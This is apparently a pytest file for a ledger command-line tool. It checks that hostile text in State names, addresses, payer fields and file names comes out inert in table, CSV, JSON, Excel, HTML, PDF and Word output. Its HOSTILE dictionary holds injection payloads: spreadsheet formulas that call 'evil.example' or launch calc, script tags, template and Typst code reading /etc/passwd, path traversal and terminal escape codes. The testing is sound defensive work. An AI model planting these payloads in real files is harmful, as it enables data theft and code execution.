"""Text from outside is shown as text, everywhere: names of States, addresses, payers, remittances, reasons, file names.

One office is made of hostile texts, each of them a State's name, its address, its payer, its remittance and the reasons
that a person gives; then every command that shows something is asked in every format, and letters are written.
"""

import csv
import io
import json
import re
import shlex
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest
from defusedxml.ElementTree import fromstring
from openpyxl import load_workbook
from pypdf import PdfReader
from typer.testing import CliRunner, Result

from db import balances
from db.store import open_store
from ledger.books.contacting import add_contact, hold
from ledger.books.identifying import identify_receipt
from ledger.books.open_books import EVER, open_books
from ledger.books.pledging import add_pledge
from ledger.commands.app import app
from sample_data import as_xlsx
from tests.helpers import AT
from tests.test_docs import COMMANDS

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "blank": "  =1+1",
    "wide": "＝1+1",
    "markup": "[red]paid[/red] [link=file:///etc/passwd]x[/link] [/] [bold",
    "typst": '#panic("ran") #read("/etc/passwd") $x$ *b* _i_ `r` @ref <label> #eval("1") \\ //',
    "template": "{{ 7*7 }} {% for x in y %} {%tr if x %} {# c #} {{r danger }} ${7*7} %(x)s {0}",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)> \"' onload='x' </td></table> &lt;",
    "path": "../../../etc/passwd ..\\..\\x C:\\x /etc/x",
    "screen": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x08\x08",
    "screen of 8 bits": "\x9b2J\x9d0;owned\x9c",
    "backwards": "\u202etxt.exe\u2066 \u200fabc\u2069",
    "arabic": "وزارة المالية ١٢٣",
    "nul": "MINISTRY\x00OF FINANCE",
    "lines": "one\ntwo\r\n2017-01-01 three\u2028four",
    "long": "MINISTRY OF " + "FINANCE" * 5000,
    "field": "_x003D_1+1 &P &[Page] %s %d",
}
ISO = {name: f"X{chr(65 + place // 26)}{chr(65 + place % 26)}" for place, name in enumerate(HOSTILE)}
ON = "2017-06-30"
FORMATS = ("table", "csv", "json", "xlsx", "html")
FILE_NAME = "\u202e=[red]\x1b[2J<b>{{x}}.csv"
_NOT_TAKEN = re.compile(r"[\x00-\x1f]")  # a list that holds these is refused as a whole, or its lines are cut there
_NOT_PRINTED = ("long", "wide", "screen", "screen of 8 bits", "backwards", "arabic", "nul", "lines", "tab", "return")
READS = (
    "assess history 2017", "assess compare 2017 model.toml", "assess plan 2018 --as-of DAY", "addresses list",
    "addresses check --as-of DAY", "aliases list", "backups list", "bank lines", "bank show L1", "bank statements",
    "budget show 2017",
    "check --as-of DAY", "closings list", "contact list --as-of DAY", "dispute list --as-of DAY", "holds --as-of DAY",
    "letters due --as-of DAY", "letters history XAA --as-of DAY", "letters list --as-of DAY", "letters runs", "log",
    "match",
    "plan list --as-of DAY", "pledge list --as-of DAY", "receipts list --as-of DAY", "receipts show R1",
    "report arrears --as-of DAY", "report balances --as-of DAY",
    "report bank-charges --as-of DAY", "report compare S1", "report cover --as-of DAY",
    "report curve --as-of DAY", "report letters --as-of DAY", "report list",
    "report movement --from 2017-01-31 --to DAY", "report outreach --as-of DAY",
    "report plans --as-of DAY", "report prepaid --as-of DAY",
    "report receipts --from 2017-01-01 --to DAY", "report reconciliation --month 2017-02", "report snapshots",
    "report statement XAB --as-of DAY", "report status --as-of DAY", "report voluntary --as-of DAY",
    "report year-end 2017", "rules list", "scale apportion scale.csv --amount 100.00", "scale list", "scale show 2017",
    "states list",
)  # fmt: skip
NOT_READS = {"isu assess year", "isu assess revise", "isu assess undo"}


def isu(*words: str, typed: str = "") -> Result:
    return CliRunner().invoke(app, list(words), input=typed)


def done(*words: str) -> str:
    ran = isu(*words)
    assert ran.exit_code == 0, (words, ran.output[-2000:])
    return ran.stdout


def table(path: Path, *rows: "list[str] | tuple[str, ...]") -> str:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    return str(path)


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The folder of an office in which every text is hostile; the current folder of this module's tests."""
    folder = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        patch.delenv("ISU_LEDGER", raising=False)
        _enter_facts(folder)
        _bring_in_the_bank(folder)
        _decide(folder)
        yield folder


def _enter_facts(folder: Path) -> None:
    states = [
        (ISO[name], f"{ISO[name][0]}{ISO[name][2]}", *[text[:300]] * 3, "2010-08-01", "en")
        for name, text in HOSTILE.items()
    ]
    header = ("state", "iso2", "name_en", "name_fr", "formal_en", "party_from", "language")
    done("init", "--name", HOSTILE["markup"] + HOSTILE["screen"], "--notice", HOSTILE["html"])
    done("states", "import", table(folder / "states.csv", header, *states))
    columns = ("state", "mission", "addressee", "rank", "salutation", "street", "city", "country", "email", "channel")
    missions = [(ISO[name], *[text[:300]] * 7, f"{text[:300]} x@example.org", "post") for name, text in HOSTILE.items()]
    done("addresses", "import", table(folder / "missions.csv", columns, *missions))
    done("scale", "import", table(folder / "scale.csv", ("state", "rate"), *((code, "0.5") for code in ISO.values())),
         "--period", "2016-2018", "--name", HOSTILE["formula"], "--decision", HOSTILE["template"])  # fmt: skip
    for year in (2016, 2017):
        done("budget", "set", str(year), "--line", "7a=1000.00", "--line", "7b=500.00", "--line", "7c=0.00:voluntary",
             "--decision", HOSTILE["html"], "--decided-on", f"{year - 1}-09-01")  # fmt: skip
        done("assess", str(year), "--on", f"{year}-01-04")
    accounts = [(f"XX00{code}", code, HOSTILE[name], HOSTILE[name]) for name, code in ISO.items()]
    done("aliases", "import", table(folder / "accounts.csv", ("account", "state", "payer", "why"), *accounts))
    model = f"name = {json.dumps(HOSTILE['markup'])}\nabout = {json.dumps(HOSTILE['html'])}\n"
    (folder / "model.toml").write_text(
        model + '[[line]]\ncode = "7a"\nkey = "equal"\n[[line]]\ncode = "7b"\nkey = "equal"\n', "utf-8"
    )


def _bring_in_the_bank(folder: Path) -> None:
    rows, balance = [], 0
    for place, (name, text) in enumerate(HOSTILE.items()):
        balance += 10 + place
        told = _NOT_TAKEN.sub("", text)
        rows.append((f"2017-02-{place + 1:02}", f"{10 + place}.00", f"{balance}.00", told, f"XX00{ISO[name]}", told))
    header = ("Date", "Amount", "Balance", "Payer", "Account", "Text")
    path = table(folder / FILE_NAME, header, *rows)
    fields = {"booked": "Date", "amount": "Amount", "balance": "Balance", "payer": "Payer", "text": "Text"}
    fields |= {"payer_account": "Account"}
    sets = [word for field, column in fields.items() for word in ("--set", f"{field}={column}")]
    done("bank", "map", path, *sets, "--account", "CH6008990000201600001", "--keep")
    done("bank", "import", path)
    done("match")


def _decide(folder: Path) -> None:
    day = date(2017, 3, 1)
    with open_store(folder / "ledger.sqlite", at=AT) as store, open_books(store, at=AT) as books:
        receipts = balances.receipts(store.db, as_of=EVER)
        assert len(receipts) == len(HOSTILE)
        for (name, text), receipt in zip(HOSTILE.items(), receipts, strict=True):
            if not receipt.state:
                identify_receipt(books, receipt, ISO[name], why=text, learn=False)
            add_contact(books, ISO[name], "call", on=day, words=text)
            add_pledge(books, ISO[name], 2017, "7c", Decimal("5.00"), pledged_on=day, today=day, why=text)
            if name in _NOT_PRINTED:
                hold(books, ISO[name], name=name, from_on=day, until_on=date(2017, 12, 31), why=text)
    second, third = ISO["plus"], ISO["minus"]
    done("dispute", "add", second, "2017", "7b", "--on", "2017-03-01", "--why", HOSTILE["screen"])
    done("plan", "add", third, "--words", HOSTILE["html"], "--instalment", "2017-12-01=1.00", "--on", "2017-03-01")
    done("rules", "smallest-letter", "0.01", "--why", HOSTILE["formula"])
    done("report", "snapshot", "--as-of", ON, "--words", HOSTILE["screen"])
    shutil.copyfile(Path(as_xlsx.__file__).parent / "letters.toml", folder / "ledger.toml")
    written = isu(
        "letters",
        "write",
        "--as-of",
        ON,
        "--into",
        "letters",
        "--old-data",
        "--yes",
        str(len(HOSTILE) - len(_NOT_PRINTED)),
    )
    assert written.exit_code == 0, written.output[-2000:]
    _no_steering(written.stdout)


# What is asked of each format ----------------------------------------------------------------------------------------


def _no_steering(text: str) -> None:
    """Hold that nothing in a text moves a cursor, turns its direction or hides itself."""
    wrong = {sign for sign in text if not (sign.isprintable() or sign == "\n")}
    assert not wrong, wrong


def _no_formula(cell: str) -> None:
    is_number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
    assert is_number or not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "\t", "\r")), cell


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add(tag)
        self.attributes |= {name for name, _ in attrs}


def _harmless_html(text: str) -> None:
    _no_steering(text)
    read = _Tags()
    read.feed(text)
    assert "table" in read.found
    assert not read.found & {"script", "img", "iframe", "object", "embed", "link", "base", "form", "b", "label"}
    assert not {name for name in read.attributes if name.startswith("on")}
    assert text.count("<html") == text.count("</html>") == 1


def _harmless_workbook(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
        assert not [name for name in names if name.endswith(".rels") and b'TargetMode="External"' in archive.read(name)]
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.hyperlink is None
                if cell.data_type == "f":
                    assert re.fullmatch(r"=SUM\([A-Z]+\d+(:[A-Z]+\d+)?\)", str(cell.value)), cell.value
                elif isinstance(cell.value, str):
                    _no_steering(cell.value)
    book.close()


def _asked(line: str) -> list[str]:
    return shlex.split(line.replace("DAY", ON))


def test_every_command_that_shows_something_in_formats_is_asked() -> None:
    with_formats = {name for name, command in COMMANDS.items() if "chosen" in {each.name for each in command.params}}
    with_formats -= {"isu export"}
    assert with_formats - NOT_READS == {
        name for name in with_formats if any(f"isu {line} ".startswith(f"{name} ") for line in READS)
    }
    assert with_formats >= NOT_READS


@pytest.mark.parametrize("line", READS)
def test_hostile_texts_are_shown_as_text(office: Path, line: str) -> None:
    for chosen in FORMATS[:3]:
        ran = isu(*_asked(line), "--format", chosen)
        assert (ran.exit_code, ran.stderr) == (0, ""), ran.exception
        _no_steering(ran.stdout.replace("\r\n", "\n"))
        if chosen == "csv":
            for row in csv.reader(io.StringIO(ran.stdout)):
                for cell in row:
                    _no_formula(cell)
        if chosen == "json":
            assert json.loads(ran.stdout)["rows"] is not None
    for chosen in FORMATS[3:]:
        path = office / f"asked.{chosen}"
        ran = isu(*_asked(line), "--output", str(path))
        assert (ran.exit_code, ran.stderr) == (0, ""), ran.exception
        if chosen == "xlsx":
            _harmless_workbook(path)
        else:
            _harmless_html(path.read_text("utf-8"))


def test_a_text_longer_than_a_cell_of_excel_is_cut_and_says_so(office: Path) -> None:
    done("bank", "lines", "--output", "lines.xlsx")
    book = load_workbook(office / "lines.xlsx")
    texts = [str(cell.value) for row in book.worksheets[0].iter_rows() for cell in row if cell.value]
    book.close()
    (cut, *_) = [text for text in texts if text.startswith("MINISTRY OF FINANCEFINANCE")]
    assert len(cut) <= 32_767
    assert cut.endswith(" … (cut off)")


def test_texts_are_whole_where_a_machine_reads_them(office: Path) -> None:
    rows = json.loads(done("report", "outreach", "--as-of", ON, "--format", "json"))["rows"]
    assert HOSTILE["markup"] in json.dumps(rows, ensure_ascii=False)
    lines = json.loads(done("bank", "lines", "--format", "json"))["rows"]
    told = {str(cell) for row in lines for cell in row.values()}
    for name in ("formula", "markup", "typst", "template", "html", "arabic", "screen of 8 bits", "backwards", "long"):
        assert any(HOSTILE[name].strip() in cell for cell in told), name


@pytest.mark.parametrize(
    "line",
    [
        "update --as-of DAY", "bank show L14 --raw", "bank show L18 --raw", "states show XAN", "settings show",
        "letters preview --as-of DAY", *(f"why {code} --as-of DAY" for code in ISO.values()),
    ],
)  # fmt: skip
def test_sentences_steer_no_screen(office: Path, line: str) -> None:
    said = done(*_asked(line))
    _no_steering(said)


def test_a_review_on_the_screen_steers_nothing(office: Path) -> None:
    shutil.copyfile(office / "ledger.sqlite", office / "review.sqlite")
    first = json.loads(done("receipts", "list", "--as-of", ON, "--format", "json"))["rows"]
    hardest = {ISO[name] for name in ("markup", "html", "screen of 8 bits", "backwards", "long")}
    for each in (each for each in first if each["state"] in hardest):
        done("--ledger", "review.sqlite", "unidentify", each["receipt"], "--why", HOSTILE["screen"])
    ran = isu("--ledger", "review.sqlite", "review", typed="l\n" * 40)
    assert ran.exception is None or isinstance(ran.exception, SystemExit)
    assert "[red]paid[/red]" in ran.stdout
    _no_steering(ran.stdout)
    done("--ledger", "review.sqlite", "review", "export", "decisions.xlsx")
    _harmless_workbook(office / "decisions.xlsx")
    done("--ledger", "review.sqlite", "review", "import", "decisions.xlsx")


@pytest.mark.parametrize("name", ["screen", "nul"])
def test_a_banks_file_with_characters_that_steer_a_screen_is_refused(office: Path, name: str) -> None:
    path = table(office / "steering.csv", ("Date", "Amount", "Text"), ("2017-03-01", "5.00", HOSTILE[name]))
    for line in ("bank map", "bank import"):
        ran = isu(*line.split(), path)
        assert ran.exit_code == 1
        assert "it is no text that can be read; fetch it anew" in ran.stderr


def test_refusals_steer_no_screen(office: Path) -> None:
    for text in (text for text in HOSTILE.values() if "\0" not in text):  # no system hands it on
        asked = (
            ("why", text, "--as-of", ON),
            ("bank", "import", text[:200]),
            ("hold", ISO["at"], "--until", text, "--why", "x"),
            ("budget", "set", "2018", "--line", text),
        )
        for words in asked:
            ran = isu(*words)
            assert ran.exit_code in (1, 2) or words[0] == "why", (words, ran.exception)
            _no_steering(ran.stderr + ran.stdout)
            assert isinstance(ran.exception, SystemExit | None), words


def test_workbook_page_and_lists_show_text(office: Path) -> None:
    for name in ("president.xlsx", "list.xlsx"):
        command = ["workbook"] if name == "president.xlsx" else ["letters", "mailing-list"]
        done(*command, "--as-of", ON, "--output", name)
        _harmless_workbook(office / name)
    done("report", "page", "--as-of", ON, "--output", "page.html")
    _harmless_html((office / "page.html").read_text("utf-8"))
    done("letters", "mailing-list", "--as-of", ON, "--output", "list.csv")
    for row in csv.reader(io.StringIO((office / "list.csv").read_text("utf-8-sig"))):
        for cell in row:
            _no_formula(cell)
            _no_steering(cell)


def test_letters_and_annex_say_the_texts_and_run_nothing(office: Path) -> None:
    done("report", "annex", "--as-of", ON, "--output", "annex.docx")
    refused = isu(
        "report", "annex", "--as-of", ON, "--output", "annex.pdf"
    )  # it has names that no letter of the font has
    assert refused.exit_code == 1
    assert "could not be displayed with font" in refused.stderr
    folder = office / "letters" / ON
    made = sorted(path.relative_to(office / "letters").as_posix() for path in (office / "letters").rglob("*"))
    assert all(re.fullmatch(r"[\w .-]+(/[\w .-]+)?", path) for path in made), made
    for path in folder.glob("*.pdf"):
        read = PdfReader(path)
        assert not {"/OpenAction", "/AA", "/AcroForm"} & set(read.root_object)
        assert not [page for page in read.pages if page.get("/Annots") or page.get("/AA")], path
        assert not read.attachments
    said = "".join(page.extract_text() for page in PdfReader(folder / "all.pdf").pages)
    for text in ("#panic(", "{{ 7*7 }}", "<script>alert(1)</script>", "[red]paid[/red]", "=1+1"):
        assert text in "".join(said.split("\n")), text
    assert "\n49\n" not in said
    for path in [*folder.glob("*.docx"), office / "annex.docx"]:
        _harmless_word(path)


def _harmless_word(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in archive.read(name)
            if name.endswith(".xml"):
                fromstring(archive.read(name))
        body = archive.read("word/document.xml").decode()
    assert "instrText" not in body or "HYPERLINK" not in body
    assert not re.search(r"\bpanic\b(?!\()", body)


def test_the_word_letter_of_a_template_name_says_it_and_does_not_work_it_out(office: Path) -> None:
    (path,) = (office / "letters" / ON).glob(f"{ISO['template']}*.docx")
    with zipfile.ZipFile(path) as archive:
        words = re.sub(r"<[^>]+>", "", archive.read("word/document.xml").decode())
    assert "{{ 7*7 }} {% for x in y %}" in words


def test_exports_of_hostile_books_are_accepted(office: Path) -> None:
    for name, file in (("beancount", "b.beancount"), ("hledger", "b.journal"), ("csv", "b.csv"), ("json", "b.json")):
        done("export", name, "--as-of", ON, "--output", file)
        _no_steering((office / file).read_text("utf-8").replace("\r\n", "\n"))
    checker = Path(sys.executable).with_name("bean-check")
    ran = subprocess.run([checker, office / "b.beancount"], capture_output=True, text=True, check=False)
    assert (ran.returncode, ran.stderr) == (0, "")
    if hledger := shutil.which("hledger"):
        command = [hledger, "-f", str(office / "b.journal"), "check", "--strict"]
        assert subprocess.run(command, capture_output=True, text=True, check=False).stderr == ""
